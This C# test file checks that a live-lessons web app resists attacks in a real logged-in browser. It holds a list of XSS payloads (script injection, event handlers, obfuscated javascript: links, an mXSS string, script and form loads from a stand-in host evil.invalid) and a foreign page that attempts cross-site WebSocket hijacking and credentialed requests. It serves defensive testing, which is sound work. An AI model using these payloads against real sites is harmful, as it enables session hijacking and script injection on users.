using System.Net;
using System.Net.Sockets;
using System.Text;

namespace SocketsLessons.Live.Tests.Browsing;

/// <summary>Attacks by other pages and by what cells put out, in a real browser that is logged in.</summary>
public sealed class AttackTests(LiveBrowser browser)
{
    /// <summary>Ways in which HTML runs a script, leaves the page or loads what it should not.</summary>
    private static readonly string[] HostileHtml =
    [
        "<script>window.attacked = true</script>",
        "<img src='data:,x' onerror='window.attacked = true'>",
        "<svg onload='window.attacked = true'></svg>",
        "<svg><script>window.attacked = true</script></svg>",
        "<svg><a xlink:href='javascript:window.attacked = true'><text class='bait' y='20'>x</text></a></svg>",
        "<a class='bait' href=' java&#10;script:window.attacked = true'>x</a>",
        "<a class='bait' href='jAvAsCrIpT:window.attacked = true'>x</a>",
        "<details open ontoggle='window.attacked = true'><summary>x</summary></details>",
        "<iframe srcdoc='<script>parent.attacked = true</script>'></iframe>",
        "<object data='data:text/html,<script>parent.attacked = true</script>'></object>",
        "<meta http-equiv='refresh' content='0;url=/glossary.html'>",
        "<base href='https://evil.invalid/'>",
        "<form action='https://evil.invalid/'><button class='bait'>x</button></form>",
        "</div></section></main><script src='https://evil.invalid/x.js'></script>",
        "<link rel='stylesheet' href='https://evil.invalid/x.css'>",
        "<template><script>window.attacked = true</script></template>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
            + "onerror=window.attacked=true&gt;'>",
    ];

    [Fact]
    public async Task Html_of_cells_runs_nothing_and_leads_nowhere()
    {
        await using var site = await LiveSite.OpenAsync(
            [.. HostileHtml.Select(html => $"display(HTML(\"\"\"<p>before</p>{html}<p>after</p>\"\"\"));"),
            "Console.WriteLine(42);"]);
        await using var page = await LivePage.OpenAsync(browser, site);
        var requested = new List<string>();
        page.Page.Request += (_, sent) => requested.Add(sent.Request.Url);
        var address = page.Page.Url;
        await page.Page.ClickAsync("[data-do=run-all]");
        var last = ((char)('a' + HostileHtml.Length)).ToString();
        Assert.True(await page.EndAsync(last));
        await CheckAsync();

        // The outputs come back when the page is opened anew, and are as harmless.
        await page.Page.ReloadAsync();
        await page.ReadyAsync();
        await CheckAsync();

        async Task CheckAsync()
        {
            await page.UntilAsync(
                $"[...document.querySelectorAll('.outputs')].filter(place => "
                    + $"place.innerText.includes('before')).length === {HostileHtml.Length}");
            await page.Page.EvaluateExpressionAsync(
                "document.querySelectorAll('.bait').forEach(bait => bait.dispatchEvent(new MouseEvent('click', { "
                    + "bubbles: true, cancelable: true })))");
            Assert.Contains("42", await page.OutputAsync(last), StringComparison.Ordinal);
            Assert.False(await page.IsTrueAsync("window.attacked === true"));
            Assert.Equal(address, page.Page.Url);
            Assert.DoesNotContain(requested, url => url.Contains("evil", StringComparison.Ordinal));
            Assert.Single(page.Page.Frames);
        }
    }

    [Fact]
    public async Task Page_on_another_port_gets_nothing_although_the_cookie_is_sent()
    {
        await using var site = await LiveSite.OpenAsync("Console.WriteLine(1);");
        await using var learner = await LivePage.OpenAsync(browser, site);
        using var foreign = new ForeignPage($$"""
            <!doctype html><title>foreign</title>
            <iframe src="{{site.Url}}00-test.html"></iframe>
            <script src="{{site.Url}}assets/live.js" onload="done.script = 'loaded'"
              onerror="done.script = 'refused'"></script>
            <script>
            const done = window.done = window.done || {};
            const socket = new WebSocket('ws://127.0.0.1:{{site.Port}}/live/00-test');
            socket.onopen = () => { done.socket = 'open'; };
            socket.onclose = () => { done.socket ??= 'refused'; };
            fetch('{{site.Url}}00-test.html', { credentials: 'include' })
              .then(() => { done.read = 'read'; }, () => { done.read = 'refused'; });
            fetch('{{site.Url}}', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' }).then(
              () => { done.post = 'sent'; }, () => { done.post = 'refused'; });
            </script>
            """.Replace("done.script =", "(window.done = window.done || {}).script =", StringComparison.Ordinal));
        // A tab of the same browser, so with the learner's cookies.
        var attacker = await learner.Page.BrowserContext.NewPageAsync();
        await attacker.GoToAsync(foreign.Address);
        await attacker.WaitForExpressionAsync("done.socket && done.read && done.post && done.script");
        Assert.Equal("refused", await attacker.EvaluateExpressionAsync<string>("done.socket"));
        Assert.Equal("refused", await attacker.EvaluateExpressionAsync<string>("done.read"));
        Assert.Equal("refused", await attacker.EvaluateExpressionAsync<string>("done.script"));
        Assert.DoesNotContain(
            attacker.Frames, frame => frame.Url.StartsWith(site.Url.AbsoluteUri, StringComparison.Ordinal));

        // The attack was a real one: the learner's own page still has what the other was refused.
        await learner.Page.BringToFrontAsync();
        await learner.RunAsync("a");
        Assert.Empty(learner.Errors);
    }

    [Fact]
    public async Task Link_on_another_page_opens_the_lessons_only_for_one_who_is_let_in()
    {
        await using var site = await LiveSite.OpenAsync("Console.WriteLine(1);");
        await using var stranger = await browser.NewPageAsync();
        await stranger.GoToAsync(site.Url.AbsoluteUri);
        Assert.Contains("A token is needed", await stranger.GetContentAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain("00 Test", await stranger.GetContentAsync(), StringComparison.Ordinal);
        await stranger.TypeAsync("input[name=token]", site.Server.Token);
        await stranger.Keyboard.PressAsync("Enter");
        await stranger.WaitForSelectorAsync(".begin a");
        Assert.Equal(site.Url.AbsoluteUri, stranger.Url);
    }

    /// <summary>A web page on its own port.</summary>
    private sealed class ForeignPage : IDisposable
    {
        private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
        private readonly byte[] _answer;

        public ForeignPage(string html)
        {
            var body = Encoding.UTF8.GetBytes(html);
            _answer = [
                .. Encoding.ASCII.GetBytes(
                $"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {body.Length}\r\nConnection: "
                    + "close\r\n\r\n"), .. body];
            _listener.Start();
            _ = ServeAsync();
        }

        public string Address => $"http://{_listener.LocalEndpoint}/";

        public void Dispose() => _listener.Dispose();

        private async Task ServeAsync()
        {
            try
            {
                while (true)
                {
                    using var client = await _listener.AcceptTcpClientAsync();
                    if (await client.GetStream().ReadAsync(new byte[8_192]) == 0) continue;
                    await client.GetStream().WriteAsync(_answer);
                }
            }
            catch (Exception error) when (error is SocketException or ObjectDisposedException or IOException)
            {
                // The test has ended.
            }
        }
    }
}
